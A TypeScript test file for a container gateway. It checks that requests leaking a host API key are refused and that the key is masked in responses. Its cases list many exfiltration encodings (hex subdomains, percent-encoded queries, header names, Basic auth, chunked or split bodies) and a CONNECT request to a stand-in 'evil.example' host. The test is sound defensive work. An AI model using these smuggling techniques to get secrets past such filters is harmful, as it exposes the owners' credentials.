// Requests of a container that hold a secret of the host, through a real gateway; the site must not get it in any form.
import { type IncomingMessage, request } from 'node:http';
import { text } from 'node:stream/consumers';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { HANG_MS } from '../../test/limits.js';
import { type Inside, startInside } from './testing/inside.js';
import { answer, type Site, startSite } from './testing/sites.js';

const KEY = 'sk-ant-api03-Zq7xW9bT2kL5vQ';
let inside: Inside;
let site: Site;
let got: string;
beforeEach(async () => {
  inside = await startInside();
  inside.secrets.add('ANTHROPIC_API_KEY', KEY);
  got = '';
  // What came of a body that broke off counts too.
  site = await startSite(async (seen, request, response) => {
    got += `${request.url} ${request.rawHeaders}`;
    request.on('data', (chunk) => {
      got += chunk;
    });
    request.on('end', () => {
      if (request.method === 'POST') got += ' [whole]';
    });
    await answer(seen, request, response).catch(() => undefined);
  });
  inside.allow('site.example', [site.port]);
});
afterEach(async () => {
  await inside.close();
  site.close();
});

interface Asked {
  path?: string;
  host?: string;
  headers?: Record<string, string>;
  pieces?: (string | Buffer)[];
  chunked?: boolean;
}

async function ask({ path = '/', host = 'site.example', headers = {}, pieces = [], chunked = false }: Asked) {
  const target = `http://${host}:${site.port}${path}`;
  const body = Buffer.concat(pieces.map((piece) => Buffer.from(piece)));
  const sized = pieces.length > 0 ? { 'content-length': body.length } : {};
  const length = chunked ? { 'transfer-encoding': 'chunked' } : sized;
  const options = { host: '127.0.0.1', port: inside.port, method: 'POST', path: target, agent: false };
  const sent = request({ ...options, headers: { ...headers, ...length } });
  const answered = new Promise<{ status: number; body: string }>((resolve, reject) =>
    sent
      .on('error', reject)
      .on('response', async (response) => resolve({ status: response.statusCode ?? 0, body: await text(response) })),
  );
  for (const piece of pieces) await new Promise((done) => sent.write(piece, done));
  sent.end();
  return answered;
}
const told = () =>
  inside.store.events
    .ofRun(inside.runId)
    .filter(({ kind }) => kind === 'secret_removed')
    .map(({ detail }) => detail);

const hex = Buffer.from(KEY).toString('hex');
const base64 = Buffer.from(`user:${KEY}`).toString('base64');

test.each<[string, Asked]>([
  ['in the path', { path: `/x/${KEY}` }],
  [
    'in the query, percent-encoded',
    { path: `/?q=${[...Buffer.from(KEY)].map((byte) => `%${byte.toString(16)}`).join('')}` },
  ],
  ['in the host', { host: `${hex}.site.example` }],
  ['in a header', { headers: { 'x-data': KEY } }],
  ['in the name of a header', { headers: { [`x-${hex}`]: '1' } }],
  ['in a password', { headers: { authorization: `Basic ${base64}` } }],
  ['in a body', { pieces: [`{"key":"${KEY}"}`] }],
  ['in a body, cut', { pieces: ['x'.repeat(10), KEY.slice(0, 9), KEY.slice(9), 'y'.repeat(10)] }],
  ['in a small body of no known length', { pieces: [`a ${KEY} b`], chunked: true }],
  ['at the end of a body of no known length', { pieces: ['x'.repeat(10), hex], chunked: true }],
  ['at the end of a large body', { pieces: [Buffer.alloc(300_000, 'x'), base64] }],
])('a request with a secret %s is refused with words, and the timeline names it', async (_where, asked) => {
  const { status, body } = await ask(asked);
  expect(status).toBe(403);
  expect(body).toContain('holds the secret ANTHROPIC_API_KEY');
  expect(told()).toEqual([{ secret: 'ANTHROPIC_API_KEY', where: expect.stringContaining('a request to ') }]);
  expect(inside.secrets.namesIn([got, JSON.stringify(told())])).toEqual([]);
  // The connection to the site is over, where there was one.
  if (got !== '') await vi.waitFor(() => expect(inside.events()).toHaveLength(1), HANG_MS);
  expect((await ask({ pieces: ['harmless'] })).body).toContain('harmless');
  // A site must not take the beginning for all there is.
  expect(got.match(/\[whole\]/g)).toHaveLength(1);
});

test('CONNECT to a host that says a secret is refused before its name is looked up', async () => {
  const sent = request({ host: '127.0.0.1', port: inside.port, method: 'CONNECT', path: `${hex}.evil.example:443` });
  const status = await new Promise((resolve) =>
    sent.on('connect', ({ statusCode }, socket) => resolve(socket.destroy() && statusCode)).end(),
  );
  expect(status).toBe(403);
  expect(inside.asked).toEqual([]);
  expect(JSON.stringify(inside.store.events.ofRun(inside.runId))).not.toContain(hex);
});

test('what a site answers reaches the container without the secret, as long as it was', async () => {
  const asked = `/?${'x'.repeat(20)}`;
  const echo = await startSite(async (_seen, _request, response) => {
    response.writeHead(200, { 'content-length': KEY.length + 6 });
    response.write(`a: ${KEY.slice(0, 10)}`);
    setTimeout(() => response.end(`${KEY.slice(10)} b.`), 20);
  });
  inside.allow('echo.example', [echo.port]);
  const options = { host: '127.0.0.1', port: inside.port, path: `http://echo.example:${echo.port}${asked}` };
  const body = await new Promise<string>((resolve) =>
    request(options, async (response) => resolve(await text(response))).end(),
  );
  echo.close();
  expect(body).toBe(`a: ${'*'.repeat(KEY.length)} b.`);
  expect(told()).toEqual([{ secret: 'ANTHROPIC_API_KEY', where: 'what the container was given' }]);
});

test('nor do its headers and its reason phrase hold one', async () => {
  const echo = await startSite(async (_seen, _request, response) => {
    response
      .writeHead(200, `ok ${KEY}`, { 'x-echo': `a ${base64}`, [`x-${hex}`]: 'b', 'x-number': 7, 'x-last': 'c' })
      .end('d');
  });
  inside.allow('echo.example', [echo.port]);
  const options = { host: '127.0.0.1', port: inside.port, path: `http://echo.example:${echo.port}/` };
  const { rawHeaders, statusMessage } = await new Promise<IncomingMessage>((resolve) =>
    request(options, (response) => resolve(response.resume())).end(),
  );
  echo.close();
  expect(rawHeaders.join()).toMatch(/^x-echo,a .{0,8}\*{30,}E=,x-\*{54},b,x-number,7,x-last,c,/);
  expect(inside.secrets.namesIn([rawHeaders.join(), `${statusMessage}`])).toEqual([]);
  expect(told()).toEqual([{ secret: 'ANTHROPIC_API_KEY', where: 'what the container was given' }]);
});
